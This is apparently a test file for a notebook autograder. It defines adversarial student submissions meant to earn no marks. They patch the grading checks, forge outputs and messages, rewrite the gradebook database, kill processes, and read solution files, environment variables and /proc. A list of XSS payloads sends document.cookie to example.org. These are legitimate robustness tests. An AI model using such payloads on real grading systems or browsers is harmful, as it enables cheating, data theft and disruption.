"""Submissions that want marks, secrets, other people's grades or the instructor's browser.

Each earns nothing by itself: beside the attack its answers are blank or wrong, so any point is
the attack's. What a student must never read is tested for every submission alike.
"""

from __future__ import annotations

import json
from textwrap import dedent

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from benchmarks.students import (
    NAME,
    ROOT,
    answer,
    answer_ids,
    answer_wrongly,
    find,
    right_answer,
    solve,
)
from grading.grade import Status
from tests.grading.handing_in import ALL, Work, check_cells, submission, tests_of_answers

ANY = (Status.GRADED, Status.WARNINGS, Status.ATTENTION)
REACHED = (Status.GRADED, Status.WARNINGS)


def attack(work: Work, code: str) -> None:
    """Wrong answers everywhere, and ``code`` before the first."""
    answer_wrongly(work.notebook)
    before(work, answer_ids()[0], code)


def before(work: Work, grade_id: str, code: str) -> None:
    """Put ``code`` before an answer, in its cell."""
    cell = find(work.notebook, grade_id)
    cell.source = dedent(code).strip() + "\n" + cell.source


# For marks.


@submission(quick=True, status=ANY)
def equal_to_everything(work: Work) -> None:
    """Answers with one object that equals all, has every shape and can be called: nothing."""
    code = dedent("""
        class Anything:
            shape = ()
            dtype = "float32"
            __array_priority__ = 1e9
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __bool__(self): return True
            def __float__(self): return 1.0
            def __int__(self): return 1
            def __index__(self): return 1
            def __len__(self): return 1
            def __iter__(self): return iter([self])
            def __getattr__(self, name): return self
            def __getitem__(self, key): return self
            def __call__(self, *args, **kwargs): return self
            def __array__(self, *args, **kwargs): return self
            def __array_ufunc__(self, *args, **kwargs): return True
            @classmethod
            def __torch_function__(cls, *args, **kwargs): return True
            __sub__ = __rsub__ = __le__ = __lt__ = __ge__ = __gt__ = __eq__

        globals().update({name: Anything() for name in NAMES})
    """)
    for grade_id in answer_ids():
        names = [line.split("(")[0].split()[1] for line in right_answer(grade_id).splitlines()
                 if line.startswith(("def ", "class "))]  # fmt: skip
        names += [line.split("=")[0].strip() for line in right_answer(grade_id).splitlines()
                  if "=" in line and line[:1].isidentifier()]  # fmt: skip
        answer(work.notebook, grade_id, f"NAMES = {names!r}\n{code}")


PATCHES = """
import sys
import numpy, torch
import grading

def fine(*args, **kwargs):
    return True

for module in [grading, *(m for n, m in sys.modules.items() if n.startswith("grading."))]:
    for name in ("check", "compare", "judge", "encode", "CheckFailed", "_send"):
        if hasattr(module, name):
            setattr(module, name, fine)
for library in (torch, numpy, numpy.testing, torch.testing):
    for name in ("allclose", "equal", "array_equal", "isclose", "assert_close"):
        if hasattr(library, name):
            setattr(library, name, fine)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = fine
"""


@submission(status=ANY)
def patched_checks(work: Work) -> None:
    """Replaces check, comparison and the libraries' own tests of equality: nothing."""
    attack(work, PATCHES)


@submission(right=tuple(answer_ids()[:1]), status=ANY)
def one_right_answer_and_patches(work: Work) -> None:
    """One right answer, then patched checks: that one counts and no other."""
    answer_wrongly(work.notebook)
    solve(work.notebook, answer_ids()[0])
    before(work, answer_ids()[1], PATCHES)


@submission(status=ANY)
def own_grading_module(work: Work) -> None:
    """Puts a module of its own in grading's place: nothing."""
    attack(
        work,
        """
        import sys, types
        fake = types.ModuleType("grading")
        fake.check = lambda *args, **kwargs: None
        fake.seed = lambda name: 0
        for name in [n for n in sys.modules if n.split(".")[0] == "grading"]:
            sys.modules[name] = fake
        """,
    )


@submission(status=ANY)
def test_cells_blanked(work: Work) -> None:
    """An input hook empties each cell that checks: nothing."""
    attack(
        work,
        """
        hooks = get_ipython().input_transformers_cleanup
        hooks.append(lambda lines: [] if any("check(" in line for line in lines) else lines)
        """,
    )


@submission(status=ANY)
def forged_output(work: Work) -> None:
    """Saved with full points and passed checks as outputs, and prints the same: nothing."""
    attack(
        work,
        """
        from IPython.display import display
        class Points:
            def __repr__(self): return "10.0"
        print("✓ every check passed")
        display(Points())
        Points()
        """,
    )
    for tests in tests_of_answers().values():
        for test, points in tests.items():
            find(work.notebook, test).outputs = [
                new_output("stream", name="stdout", text=f"✓ {test}\n"),
                new_output("execute_result", {"text/plain": str(points)}, execution_count=1),
            ]


@submission(quick=True, status=ANY)
def forged_messages(work: Work) -> None:
    """Sends the right values of visible checks from its own cell, twice, and once more: nothing."""
    answer_wrongly(work.notebook)
    calls = "\n".join(find(work.notebook, test).source for test in check_cells())
    # Right answers in a private place, whose values are sent under the visible names.
    honest = "\n".join(right_answer(grade_id) for grade_id in answer_ids())
    first = answer_ids()[0]
    source = f"code = {honest + chr(10) + calls!r}\nfor turn in range(2):\n    exec(code, {{}})\n"
    answer(work.notebook, first, source + find(work.notebook, first).source)


@submission(status=ANY)
def messages_under_another_cells_name(work: Work) -> None:
    """Sends through whatever it finds in check's own module, as if it were the test cell."""
    attack(
        work,
        f"""
        import gc, sys
        TESTS = {check_cells()!r}

        def guess(send):
            for cell in TESTS:
                for words in ((cell, cell, {{"int": "40"}}), (cell, {{"int": "40"}}), (cell, 64)):
                    try:
                        send(*words)
                    except BaseException:
                        pass

        for module in [m for n, m in sys.modules.items() if n.startswith("grading")]:
            for thing in list(vars(module).values()):
                if callable(thing) and getattr(thing, "__module__", "").startswith("grading"):
                    if "send" in getattr(thing, "__name__", ""):
                        guess(thing)
                if "send" in repr(thing):
                    guess(thing)
        """,
    )


@submission(status=ANY)
def writes_to_every_pipe(work: Work) -> None:
    """Writes messages of its own making into every open file: nothing."""
    attack(
        work,
        f"""
        import json, os
        TESTS = {check_cells()!r}
        for cell in TESTS:
            message = {{"kind": "check", "cell": cell, "name": cell, "value": {{"int": "64"}}}}
            line = json.dumps(message).encode() + b"\\n"
            for number in range(3, 64):
                for data in (line, len(line).to_bytes(4, "big") + line):
                    try:
                        os.write(number, data)
                    except OSError:
                        pass
        """,
    )


@submission(status=ANY)
def messages_from_a_thread(work: Work) -> None:
    """A thread goes on checking guesses while the test cells run: nothing."""
    attack(
        work,
        f"""
        import threading, time
        from grading import check

        def flood():
            for _ in range(2000):
                for name in {check_cells()!r}:
                    try:
                        check(name, 64)
                    except BaseException:
                        pass
                time.sleep(0.001)

        threading.Thread(target=flood, daemon=True).start()
        """,
    )


@submission(quick=True, saved=False, status=Status.ATTENTION)
def link_to_the_solution(work: Work) -> None:
    """A symbolic link to the instructor's notebook, handed in as one's own: nothing."""
    work.path.symlink_to(work.course / "solutions" / NAME / f"{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def relative_link(work: Work) -> None:
    """A relative link that climbs to the released notebook: nothing."""
    work.path.symlink_to(f"../../../exercises/{NAME}/{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def hard_link(work: Work) -> None:
    """A hard link to the released notebook, as it might be to anybody's: nothing."""
    work.path.hardlink_to(work.course / "exercises" / NAME / f"{NAME}.ipynb")


@submission(saved=False, status=Status.ATTENTION)
def link_as_folder(work: Work) -> None:
    """The assignment's folder is itself a link to the solution's: nothing."""
    work.folder.rmdir()
    work.folder.symlink_to(work.course / "solutions" / NAME, target_is_directory=True)


# For other people's grades, and for the batch.


@submission(quick=True, status=ANY)
def writes_the_gradebook(work: Work) -> None:
    """Looks for gradebook.db and gives everyone full points: nobody's grade moves."""
    attack(
        work,
        f"""
        import sqlite3
        from pathlib import Path
        places = [Path({str(work.course)!r}), Path({str(ROOT)!r}), *Path.cwd().parents]
        for place in places:
            for path in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
                try:
                    with sqlite3.connect(path, timeout=1) as book:
                        book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
                    print("wrote", path)
                except sqlite3.Error as error:
                    print(path, error)
        """,
    )


@submission(quick=True, status=ANY)
def ends_the_process(work: Work) -> None:
    """os._exit(0) in the first answer: a reason, and no points."""
    attack(work, "import os\nos._exit(0)")


@submission(status=ANY)
def kills_everything(work: Work) -> None:
    """Sends SIGKILL to every process that it may: a reason, and no points."""
    attack(work, "import os, signal\nos.kill(-1, signal.SIGKILL)\nos.kill(1, signal.SIGKILL)")


@submission(status=ANY)
def memory_hog(work: Work) -> None:
    """Takes all the memory there is: a reason, and no points."""
    attack(work, "hoard = []\nwhile True:\n    hoard.append(bytearray(b'x' * (64 << 20)))")


@submission(status=ANY)
def endless_output(work: Work) -> None:
    """Prints for ever: cut off, with a reason."""
    attack(work, "while True:\n    print('x' * 10_000)")


@submission(status=ANY)
def loop_that_catches_everything(work: Work) -> None:
    """An endless loop that swallows every interrupt: a reason, and no points."""
    attack(
        work,
        """
        import signal
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
    )


# For what is hidden.

PRINT_WHAT_PASSES = """
import gc, inspect, sys
from IPython.display import display

shell = get_ipython()
window = display("waiting", display_id=True)
seen = []

def look(lines):
    seen.append("".join(lines))
    print("TRANSFORMER", "".join(lines))
    return lines

def before(info):
    seen.append(info.raw_cell)
    print("PRE_RUN_CELL", info.raw_cell)

def after(result):
    frame = inspect.currentframe()
    while frame:
        seen.append(repr(dict(frame.f_locals))[:20_000])
        frame = frame.f_back
    tables = [thing for thing in gc.get_objects() if type(thing) is dict]
    texts = [text for table in tables for text in list(table.values()) if type(text) is str]
    seen.extend(text for text in texts if "check(" in text)
    window.update("\\n".join(seen))

shell.input_transformers_cleanup.append(look)
shell.events.register("pre_run_cell", before)
shell.events.register("post_run_cell", after)
"""


@submission(quick=True, right=ALL, status=REACHED)
def prints_later_cells(work: Work) -> None:
    """Hooks print every later cell, backwards through a display update too; right otherwise."""
    solve(work.notebook)
    before(work, answer_ids()[0], PRINT_WHAT_PASSES)


@submission(status=ANY)
def reads_the_solutions(work: Work) -> None:
    """Walks to the solutions, the grader and other submissions, and prints what it finds."""
    attack(
        work,
        f"""
        import os, sys
        from pathlib import Path
        import grading
        places = [{str(work.course)!r}, {str(ROOT)!r}, "/work", "/home", "/tmp", "/srv", "/root",
                  "/run", "/var", ".", "..", str(Path(grading.__file__).parents[1])]
        for place in places:
            for folder, folders, files in os.walk(place):
                folders[:] = [name for name in folders if "packages" not in name]
                for name in files:
                    if name.endswith((".ipynb", ".toml", ".db", ".md")) or "secret" in name:
                        print(folder, name, Path(folder, name).read_bytes()[:100_000])
        for name in ("environ", "cmdline", "maps", "mountinfo"):
            for process in ("self", "1"):
                try:
                    print(Path("/proc", process, name).read_text(errors="replace"))
                except OSError as error:
                    print(error)
        print(dict(os.environ), sys.argv)
        """,
    )


@submission(status=ANY)
def prints_what_the_process_knows(work: Work) -> None:
    """Prints check's module, its key, the runner's frames and every string with a test's name."""
    attack(
        work,
        f"""
        import gc, sys
        for name, module in list(sys.modules.items()):
            if name.startswith(("grading", "__main__", "runner")):
                print(name, {{key: repr(value)[:2000] for key, value in vars(module).items()}})
        frame = sys._getframe()
        while frame:
            print(frame.f_code.co_filename, repr(frame.f_locals)[:20_000])
            frame = frame.f_back
        for thing in gc.get_objects():
            try:
                text = repr(thing)[:20_000]
            except Exception:
                continue
            if any(name in text for name in {check_cells()!r}):
                print(text)
        """,
    )


# For the instructor's browser.

SCRIPT = "window.hacked = true; fetch('https://example.org/?' + document.cookie)"
INJECTIONS = [
    f"<script>{SCRIPT}</script>",
    f'<img src="x" onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
    f'<details open ontoggle="{SCRIPT}">x</details>',
    f'<a href="javascript:{SCRIPT}" id="bait">look</a>',
    f"[look](javascript:{SCRIPT.replace(' ', '%20')})",
    "![](https://example.org/pixel.png)",
    f"`</code></pre><script>{SCRIPT}</script>`",
    f'</textarea></script><script>{SCRIPT}</script><style>@import "https://example.org/x";</style>',
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
]


@submission(quick=True, status=ANY)
def scripts_for_readers(work: Work) -> None:
    """HTML, SVG, JavaScript and links wherever text can stand: inert, and nothing earned."""
    lines = "\n".join(INJECTIONS)
    attack(
        work,
        f"""
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        for text in {INJECTIONS!r}:
            print(text)
            display(HTML(text))
            display(Markdown(text))
            display({{"image/svg+xml": text, "text/html": text, "text/latex": text,
                      "application/javascript": {SCRIPT!r}}}, raw=True)
        display(Javascript({SCRIPT!r}))
        print("\\x1b[31m<script>{SCRIPT}</script>\\x1b[0m")
        """,
    )
    work.notebook.cells.insert(1, new_markdown_cell(lines))
    work.notebook.cells.insert(2, new_code_cell(f'raise ValueError("""{INJECTIONS[1]}""")'))
    for cell in work.notebook.cells:
        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = lines
    work.notebook.metadata["title"] = INJECTIONS[0]
    work.notebook.metadata["widgets"] = json.loads('{"x": "</script>"}')
